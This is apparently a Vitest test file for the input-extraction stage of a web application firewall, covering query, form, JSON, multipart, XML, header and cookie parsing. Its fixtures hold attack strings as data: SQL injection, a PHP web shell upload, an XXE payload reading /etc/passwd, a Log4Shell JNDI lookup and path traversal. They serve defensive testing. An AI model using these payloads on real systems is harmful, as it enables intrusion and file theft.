import { describe, expect, it } from 'vitest';
import type { Input, Transaction } from './contract.js';
import { extractInputs, maxInputs, maxValueLength } from './inputs.js';

function transaction(partial: Partial<Transaction>): Transaction {
  return { id: '1', method: 'GET', uri: '/', headers: {}, body: null, ...partial };
}

function pairs(inputs: Input[]): [string, string][] {
  return inputs.map((i) => [i.location, i.decoded]);
}

describe('extractInputs', () => {
  it('path and query: repeated names kept, each name once, + is a space', () => {
    const inputs = extractInputs(transaction({ uri: '/tra-cuu/%C4%91%C4%83ng-k%C3%BD?q=khai+sinh&id=1%27+OR+1%3D1&id=2&flag' }));
    expect(pairs(inputs)).toEqual([
      ['path', '/tra-cuu/đăng-ký'],
      ['args.q', 'khai sinh'],
      ['args.id', "1' OR 1=1"],
      ['args.id', '2'],
      ['args.flag', ''],
      ['args_names', 'q'],
      ['args_names', 'id'],
      ['args_names', 'flag'],
    ]);
    expect(inputs[2]?.raw).toBe('1%27+OR+1%3D1');
  });

  it('form body', () => {
    const inputs = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=UTF-8' }, body: 'ho_ten=Nguy%E1%BB%85n+V%C4%83n+A&cmnd=0123' }));
    expect(pairs(inputs).filter(([l]) => l.startsWith('body'))).toEqual([
      ['body.ho_ten', 'Nguyễn Văn A'],
      ['body.cmnd', '0123'],
      ['body_names', 'ho_ten'],
      ['body_names', 'cmnd'],
    ]);
  });

  it('nested JSON: dotted paths, arrays by index, numbers, keys as names', () => {
    const body = JSON.stringify({ user: { name: '<b>', age: 30, ok: true }, items: ['a', { id: 7 }], none: null });
    const inputs = extractInputs(transaction({ method: 'POST', headers: { 'content-type': 'application/json' }, body }));
    expect(pairs(inputs).filter(([l]) => l.startsWith('body.'))).toEqual([
      ['body.user.name', '<b>'],
      ['body.user.age', '30'],
      ['body.items.0', 'a'],
      ['body.items.1.id', '7'],
    ]);
    expect(inputs.filter((i) => i.location === 'body_names').map((i) => i.raw)).toEqual(['user', 'name', 'age', 'ok', 'items', 'id', 'none']);
  });

  it('JSON keys are names once, however many objects repeat them', () => {
    const body = JSON.stringify({ items: Array.from({ length: 50 }, (_, i) => ({ id: i, ten: 'x' })) });
    const inputs = extractInputs(transaction({ headers: { 'Content-Type': 'application/json' }, body }));
    expect(inputs.filter((i) => i.location === 'body_names').map((i) => i.raw)).toEqual(['items', 'id', 'ten']);
    expect(inputs.filter((i) => i.location.startsWith('body.items.'))).toHaveLength(100);
  });

  it('JSON without a Content-Type is sniffed; broken JSON is the raw body', () => {
    expect(pairs(extractInputs(transaction({ body: '{"a":"x"}' }))).filter(([l]) => l.startsWith('body.'))).toEqual([['body.a', 'x']]);
    expect(pairs(extractInputs(transaction({ headers: { 'Content-Type': 'application/json' }, body: '{"a":' })))).toContainEqual(['body', '{"a":']);
  });

  it('multipart with a file', () => {
    const body = [
      '--XyZ',
      'Content-Disposition: form-data; name="ho_ten"',
      '',
      'Trần Thị B',
      '--XyZ',
      'Content-Disposition: form-data; name="giay_to"; filename="shell.php"',
      'Content-Type: application/octet-stream',
      '',
      '<?php system($_GET["c"]); ?>',
      '--XyZ--',
      '',
    ].join('\r\n');
    const inputs = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=XyZ' }, body }));
    expect(pairs(inputs).filter(([l]) => l.startsWith('body.') || l.startsWith('files.'))).toEqual([
      ['body.ho_ten', 'Trần Thị B'],
      ['files.giay_to', 'shell.php'],
      ['body.giay_to', '<?php system($_GET["c"]); ?>'],
    ]);
  });

  it('multipart: RFC 8187 file names, LF line ends, a missing boundary is the raw body', () => {
    const body = '--b\nContent-Disposition: form-data; name="f"; filename*=UTF-8\'\'shell%2Ephp\n\nx\n--b--\n';
    const inputs = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary="b"' }, body }));
    expect(pairs(inputs).filter(([l]) => l.startsWith('files.') || l.startsWith('body.'))).toEqual([['files.f', 'shell.php'], ['body.f', 'x']]);
    const raw = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data' }, body }));
    expect(raw.find((i) => i.location === 'body')?.raw).toBe(body);
  });

  it('XML and unknown types are the raw body', () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
    const inputs = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'application/xml' }, body: xml }));
    expect(inputs.find((i) => i.location === 'body')?.raw).toBe(xml);
  });

  it('headers worth inspecting, cookies split, others left out', () => {
    const inputs = extractInputs(transaction({
      headers: { 'User-Agent': 'sqlmap/1.7', Referer: 'https://a/', Cookie: 'SESSION=abc; lang=vi%2Dvn; flag', 'X-Forwarded-For': '1.2.3.4', 'X-Api-Version': '${jndi:ldap://x}', 'Accept-Language': 'vi-VN', Host: 'a' },
    }));
    expect(pairs(inputs).slice(1)).toEqual([
      ['headers.user-agent', 'sqlmap/1.7'],
      ['headers.referer', 'https://a/'],
      ['cookies.SESSION', 'abc'],
      ['cookies.lang', 'vi-vn'],
      ['cookies.flag', ''],
      ['headers.x-forwarded-for', '1.2.3.4'],
      ['headers.x-api-version', '${jndi:ldap://x}'],
    ]);
  });

  it('content-negotiation headers only when they break their grammar (RFC 9110 §12.5)', () => {
    const wellFormed = extractInputs(transaction({
      headers: {
        Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
        'Accept-Language': 'vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7',
        'Accept-Encoding': 'gzip, deflate, br, zstd',
        'Accept-Charset': 'utf-8, iso-8859-1;q=0.5',
      },
    }));
    expect(pairs(wellFormed)).toEqual([['path', '/']]);
    const broken = extractInputs(transaction({
      headers: { 'Accept-Language': "../../../../etc/passwd", 'Accept-Charset': "utf-8' OR '1'='1", 'Accept-Encoding': '../x', Accept: '../../etc/hosts' },
    }));
    expect(pairs(broken).slice(1)).toEqual([
      ['headers.accept-language', '../../../../etc/passwd'],
      ['headers.accept-charset', "utf-8' OR '1'='1"],
    ]);
    const dots = extractInputs(transaction({ headers: { 'Accept-Language': 'vi....boot.ini' } }));
    expect(pairs(dots).slice(1)).toEqual([['headers.accept-language', 'vi....boot.ini']]);
  });

  it('limits: at most 256 inputs, 64 KiB per value, headers kept before padding', () => {
    const query = Array.from({ length: 1000 }, (_, i) => `p${i}=${i}`).join('&');
    const inputs = extractInputs(transaction({ uri: `/?${query}`, headers: { 'User-Agent': 'x' }, body: 'A'.repeat(200_000), }));
    expect(inputs).toHaveLength(maxInputs);
    expect(inputs[1]?.location).toBe('headers.user-agent');
    const big = extractInputs(transaction({ method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: 'A'.repeat(200_000) }));
    expect(big.find((i) => i.location === 'body')?.raw.length).toBe(maxValueLength);
  });

  it('deeply nested JSON does not throw', () => {
    const body = '['.repeat(5000) + ']'.repeat(5000);
    expect(() => extractInputs(transaction({ headers: { 'Content-Type': 'application/json' }, body }))).not.toThrow();
  });
});
